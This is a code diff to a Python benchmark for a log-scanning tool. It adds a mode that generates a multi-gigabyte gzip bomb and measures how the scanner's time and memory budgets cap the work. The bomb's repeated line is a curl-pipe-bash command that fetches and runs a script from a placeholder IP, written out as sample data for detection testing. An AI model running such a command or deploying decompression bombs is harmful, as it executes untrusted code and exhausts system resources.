@@ -4,6 +4,7 @@ Usage::
 
     .venv/bin/python benchmarks/bench_logscan.py [--size-mib 1024] [--runs 3] [--path /tmp/wb-bench-ci.log]
         [--workers N] [--backend auto|hyperscan|re] [--grep-utf8]
+    .venv/bin/python benchmarks/bench_logscan.py --bomb-gib 2    # the budgets on a gzip bomb (docs/limits.md)
 
 Generates (once, reused when the size matches) a synthetic GitHub-Actions-style CI log in /tmp: a timestamp on every
 line, ANSI colours on about one line in eight, Unicode progress bars on 5%, ``##[group]`` markers, pip, pytest,
@@ -27,9 +28,13 @@ the throughput ratios workbench/grep.
 from __future__ import annotations
 
 import argparse
+import gzip
+import json
 import os
 import random
+import re
 import resource
+import shutil
 import statistics
 import subprocess
 import sys
@@ -39,6 +44,7 @@ from pathlib import Path
 from re import _constants as C
 from re import _parser as sre_parse
 
+from workbench.evidence.pipeline_log import LogBudget
 from workbench.logscan.engine import Scanner, ScanOptions
 from workbench.rulepack.rules import builtin_rules
 
@@ -254,6 +260,37 @@ def _measure(fn, child: bool) -> tuple[float, float]:
     return wall, cpu if child else cpu + _cpu(resource.RUSAGE_SELF) - s0
 
 
+BOMB_LINE = b"2026-11-18T22:14:03.512Z curl -sSL http://203.0.113.7/p.sh | bash\n"
+
+
+def bomb(gib: float) -> None:
+    """Write a gzip of ``gib`` GiB of one matching line (written in blocks), scan it with ``workbench scan-logs
+    --json`` under ``/usr/bin/time -v``, print wall time, peak RSS and why the scan stopped, remove the file."""
+    folder = Path(tempfile.mkdtemp(prefix="wb-bench-bomb-"))
+    path = folder / "bomb.log.gz"
+    try:
+        block = BOMB_LINE * ((64 << 20) // len(BOMB_LINE))
+        with gzip.open(path, "wb", compresslevel=6) as out:
+            for _ in range(max(1, int(gib * 16))):
+                out.write(block)
+        print(f"{path}: {path.stat().st_size / 2**20:.1f} MiB gzip of {gib:g} GiB of matching lines", flush=True)
+        workbench = Path(sys.executable).with_name("workbench")
+        started = time.perf_counter()
+        proc = subprocess.run(["/usr/bin/time", "-v", str(workbench), "scan-logs", "--json", str(path)],
+                              capture_output=True, text=True, check=False)  # fmt: skip
+        wall = time.perf_counter() - started
+        peak = re.search(r"Maximum resident set size \(kbytes\): (\d+)", proc.stderr)
+        doc = json.loads(proc.stdout or "{}")
+        files = doc.get("files") or [{}]
+        stopped = [w["reason"] for w in doc.get("warnings", []) if w.get("line") is None]
+        print(json.dumps({"wall_s": round(wall, 1), "peak_rss_mib": int(peak.group(1)) // 1024 if peak else None,
+                          "exit": proc.returncode, "bytes_scanned": files[0].get("bytes"),
+                          "matches_counted": files[0].get("matches"), "kept": len(doc.get("matches", [])),
+                          "stopped": stopped}))  # fmt: skip
+    finally:
+        shutil.rmtree(folder, ignore_errors=True)
+
+
 def main() -> None:
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     ap.add_argument("--size-mib", type=int, default=1024)
@@ -262,7 +299,13 @@ def main() -> None:
     ap.add_argument("--backend", default="auto")
     ap.add_argument("--workers", type=int, default=None, help="scanner processes (default: one per CPU core)")
     ap.add_argument("--grep-utf8", action="store_true", help="also time grep under LC_ALL=C.UTF-8 (very slow)")
+    ap.add_argument("--bomb-gib", type=float, default=None,
+                    help="instead: a gzip of this many GiB of matching lines, scanned by `workbench scan-logs` under "
+                         "/usr/bin/time -v (the budgets at work)")  # fmt: skip
     args = ap.parse_args()
+    if args.bomb_gib is not None:
+        bomb(args.bomb_gib)
+        return
     make_log(args.path, args.size_mib)
     size = args.path.stat().st_size
     with args.path.open("rb") as fh:  # warm the page cache
@@ -271,7 +314,9 @@ def main() -> None:
     patterns = ere_patterns()
     with tempfile.NamedTemporaryFile("w", suffix=".ere", delete=False) as pf:
         pf.write("\n".join(patterns) + "\n")
-    scanner = Scanner(options=ScanOptions(backend=args.backend, workers=args.workers))
+    # a throughput benchmark: no budget (each run would otherwise spend the scanner's case budget)
+    unbounded = LogBudget(file_bytes=None, case_bytes=None, file_seconds=None, case_seconds=None)
+    scanner = Scanner(options=ScanOptions(backend=args.backend, workers=args.workers, budget=unbounded))
     counts: dict[str, int] = {}
 
     def run_scan() -> None:
